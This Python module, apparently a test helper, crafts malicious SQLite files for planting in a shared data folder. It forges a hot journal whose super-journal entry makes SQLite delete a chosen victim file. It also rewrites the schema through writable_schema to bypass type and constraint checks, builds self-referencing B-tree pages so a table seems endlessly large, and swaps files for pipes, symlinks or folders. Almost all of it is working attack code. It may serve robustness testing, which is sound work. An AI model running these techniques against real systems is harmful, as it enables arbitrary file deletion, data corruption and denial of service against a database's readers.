"""Hostile files that somebody with write access can plant in a data folder for its readers."""

import os
import re
import sqlite3
import struct
from contextlib import closing
from pathlib import Path

MAGIC = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
SECTOR = 512
LOCK_PAGE = 0x40000000 // 4096 + 1  # SQLite never uses this page; in a journal, its number marks a super-journal's name


def plant_journal(database: Path, victim: Path) -> None:
    """Write a hot journal beside the database that undoes nothing, and names a file which SQLite then deletes."""
    pages = database.stat().st_size // 4096
    header = MAGIC + struct.pack(">IIIII", 0, 0, pages, SECTOR, 4096)
    name = str(victim).encode()
    record = struct.pack(">I", LOCK_PAGE) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    database.with_name(database.name + "-journal").write_bytes(header.ljust(SECTOR, b"\0") + record)


def change(database: Path, *statements: str) -> None:
    """Change a database in ways that its schema forbids: types are not checked, and then the schema is restored."""
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        connection.execute("PRAGMA writable_schema = ON")
        before = dict(connection.execute("SELECT name, sql FROM sqlite_master WHERE type = 'table'").fetchall())
        for name, sql in before.items():
            loose = re.sub(r"\bSTRICT,?|\s+NOT NULL|\s+REFERENCES \w+", "", sql)
            loose = re.sub(r"\s+(INTEGER|TEXT|REAL)\b(?! PRIMARY)", " BLOB", loose)
            connection.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (loose, name))
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        for statement in statements:
            connection.execute(statement)
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        connection.execute("PRAGMA writable_schema = ON")
        for name, sql in before.items():
            connection.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (sql, name))


def redefine(database: Path, name: str, kind: str, sql: str) -> None:
    """Change the type and definition of an entry of the schema."""
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        connection.execute("PRAGMA writable_schema = ON")
        connection.execute(
            "UPDATE sqlite_master SET type = ?, sql = ?, rootpage = iif(? = 'view', 0, rootpage) WHERE name = ?",
            (kind, sql, kind, name),
        )


def make_sparse(path: Path, size: int) -> None:
    """Extend the file with a hole to this size, which takes no space."""
    with path.open("ab") as file:
        file.truncate(size)


def replace_by_pipe(path: Path) -> None:
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def replace_by_link(path: Path, target: str) -> None:
    path.unlink()
    path.symlink_to(target)


def replace_by_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def zeros(path: Path) -> None:
    path.write_bytes(bytes(100_000))


PAGE = 4096
CELLS = 400  # in an inner page


def make_endless(database: Path, table: str | None = None) -> None:
    """Make a table, or the schema itself, seem to hold 400 times 400 times 400 times the content of its last page.

    Inner pages whose cells all lead to the same page below are valid except for the order of their keys.
    """
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        assert connection.execute("PRAGMA page_size").fetchone()[0] == PAGE
        if table:
            (root,) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()
        else:
            root, (index,) = (
                1,
                connection.execute(
                    "SELECT rootpage FROM sqlite_master WHERE name = 'sqlite_autoindex_tick_1'"
                ).fetchone(),
            )
    content = bytearray(database.read_bytes())
    count = len(content) // PAGE
    start = 100 if root == 1 else 0
    page = content[(root - 1) * PAGE : root * PAGE]
    assert page[start] == 5, "the table is too small"
    (last,) = struct.unpack_from(">I", page, start + 8)
    below = last
    if not table:  # SQLite accepts any number of rows about one of its own indexes
        below = count + 1
        content += _leaf(("index", "sqlite_autoindex_tick_1", "tick", index, None))
    for level in range(3):
        children = [last if number == 0 and level == 2 else below for number in range(CELLS)]
        content += _inner(children)
        below = len(content) // PAGE
    struct.pack_into(">I", content, (root - 1) * PAGE + start + 8, below)
    struct.pack_into(">I", content, 28, len(content) // PAGE)
    database.write_bytes(content)


def _inner(children: list[int]) -> bytes:
    cells = [struct.pack(">I", child) + bytes([1]) for child in children]
    return _page(struct.pack(">BHHHBI", 5, 0, len(cells), PAGE - 5 * len(cells), 0, children[-1]), cells)


def _leaf(row: tuple[str | int | None, ...]) -> bytes:
    kinds, body = b"", b""
    for value in row:
        part = b"" if value is None else struct.pack(">I", value) if isinstance(value, int) else value.encode()
        kinds += bytes([0 if value is None else 4 if isinstance(value, int) else 13 + 2 * len(part)])
        body += part
    record = bytes([len(kinds) + 1]) + kinds + body
    cell = bytes([len(record), 1]) + record
    return _page(struct.pack(">BHHHB", 13, 0, 1, PAGE - len(cell), 0), [cell])


def _page(header: bytes, cells: list[bytes]) -> bytes:
    pointers, place = b"", PAGE
    for cell in cells:
        place -= len(cell)
        pointers += struct.pack(">H", place)
    return (header + pointers).ljust(place, b"\0") + b"".join(reversed(cells))
